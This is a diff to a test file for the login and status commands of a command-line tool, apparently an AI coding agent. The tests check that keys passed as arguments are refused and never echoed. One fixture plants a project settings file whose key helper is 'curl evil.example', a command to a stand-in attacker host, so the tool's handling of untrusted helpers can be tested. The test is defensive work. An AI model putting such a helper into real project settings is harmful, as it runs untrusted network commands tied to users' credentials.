@@ -5,6 +5,7 @@ import { join } from "node:path";
 import { failing, fault, reply, toolUse } from "@quoll/model-twin/scenario";
 import { startTwin } from "@quoll/model-twin/server";
 import { KEY, SECRET_TOOL } from "../services/credentials/support.ts";
+import { deepTest, eachOrDeep } from "../support/deep.ts";
 import { linesOf } from "../support/lines-of.ts";
 import { QUOLL, quollPlace } from "../support/quoll-process.ts";
 import { terminalProcess } from "../support/terminal-process.ts";
@@ -69,42 +70,52 @@ describe("quoll auth login", () => {
     expect(await savedIn(place)).toEqual({ anthropic: { key: KEY } });
   });
 
-  test.each([
-    ["Ctrl-C", "\u0003"],
-    ["Ctrl-D", "\u0004"],
-  ])("%s cancels and saves nothing", async (_, keys) => {
-    await using place = await quollPlace();
-    const script = `"$@" auth login anthropic; echo "code $?"; stty -a | grep -o ' echo '`;
-    await using terminal = terminalProcess(["bash", "-c", script, "bash", ...QUOLL], {
-      cwd: place.project.dir,
-      env: place.environmentOf({}),
-    });
-    await terminal.shows("not shown");
-    terminal.type(keys);
-    await terminal.shows(/code 130\s+echo/);
-    expect(terminal.all).toContain("quoll: cancelled; nothing was saved");
-    expect(place.ownFiles()).toEqual([]);
-  });
+  eachOrDeep(
+    "%s cancels and saves nothing",
+    1,
+    [
+      ["Ctrl-C", "\u0003"],
+      ["Ctrl-D", "\u0004"],
+    ],
+    async (_, keys) => {
+      await using place = await quollPlace();
+      const script = `"$@" auth login anthropic; echo "code $?"; stty -a | grep -o ' echo '`;
+      await using terminal = terminalProcess(["bash", "-c", script, "bash", ...QUOLL], {
+        cwd: place.project.dir,
+        env: place.environmentOf({}),
+      });
+      await terminal.shows("not shown");
+      terminal.type(keys);
+      await terminal.shows(/code 130\s+echo/);
+      expect(terminal.all).toContain("quoll: cancelled; nothing was saved");
+      expect(place.ownFiles()).toEqual([]);
+    },
+  );
 
-  test.each([
-    [["anthropic", KEY]],
-    [["anthropic", "--key", KEY]],
-    [["anthropic", `--api-key=${KEY}`]],
-    [["anthropic", "--apiKey", KEY]],
-    [["anthropic", "--token", KEY, "--key-stdin"]],
-    [[KEY]],
-    [[KEY, "anthropic"]],
-  ])("refuses a key as an argument without repeating it: %j", async (words) => {
-    await using place = await quollPlace();
-    const result = await place.run(["auth", "login", ...words], { stdin: "sk-other-0123456789" });
-    expect({ ...result, err: result.err.slice(0, 101) }).toEqual({
-      code: 2,
-      out: "",
-      err: "quoll: Quoll does not accept a key as an argument, because other programs can see it and the shell ke",
-    });
-    expect(result.err).not.toContain(KEY);
-    expect(place.ownFiles()).toEqual([]);
-  });
+  eachOrDeep(
+    "refuses a key as an argument without repeating it: %j",
+    1,
+    [
+      [["anthropic", KEY]],
+      [["anthropic", "--key", KEY]],
+      [["anthropic", `--api-key=${KEY}`]],
+      [["anthropic", "--apiKey", KEY]],
+      [["anthropic", "--token", KEY, "--key-stdin"]],
+      [[KEY]],
+      [[KEY, "anthropic"]],
+    ],
+    async (words) => {
+      await using place = await quollPlace();
+      const result = await place.run(["auth", "login", ...words], { stdin: "sk-other-0123456789" });
+      expect({ ...result, err: result.err.slice(0, 101) }).toEqual({
+        code: 2,
+        out: "",
+        err: "quoll: Quoll does not accept a key as an argument, because other programs can see it and the shell ke",
+      });
+      expect(result.err).not.toContain(KEY);
+      expect(place.ownFiles()).toEqual([]);
+    },
+  );
 
   test("saves an endpoint alone, also of a provider of one's own, and warns of one that is not encrypted", async () => {
     await using place = await quollPlace();
@@ -121,7 +132,7 @@ describe("quoll auth login", () => {
     expect((await place.run(["auth", "status"])).out).toBe(`shed  …wxyz  ${fileOf(place)}  at https://a.example\n`);
   });
 
-  test("accepts other names of a provider", async () => {
+  deepTest("accepts other names of a provider", async () => {
     await using place = await quollPlace();
     await place.run(["auth", "login", "Gemini", "--key-stdin"], { stdin: KEY });
     expect(await savedIn(place)).toEqual({ google: { key: KEY } });
@@ -156,7 +167,7 @@ describe("quoll auth login", () => {
     expect(place.ownFiles()).toEqual([]);
   });
 
-  test("a variable that comes first is told, at login and at logout", async () => {
+  deepTest("a variable that comes first is told, at login and at logout", async () => {
     await using place = await quollPlace();
     const env = { OPENAI_API_KEY: "sk-from-the-variable-9876" };
     const login = await place.run(["auth", "login", "openai", "--key-stdin"], { stdin: KEY, env });
@@ -207,7 +218,7 @@ describe("quoll auth status", () => {
     ]);
   });
 
-  test("names a project's helper never, and says how to begin where there is nothing", async () => {
+  deepTest("names a project's helper never, and says how to begin where there is nothing", async () => {
     await using place = await quollPlace({
       files: { ".quoll/settings.json": '{ "apiKeyHelper": "curl evil.example" }' },
     });
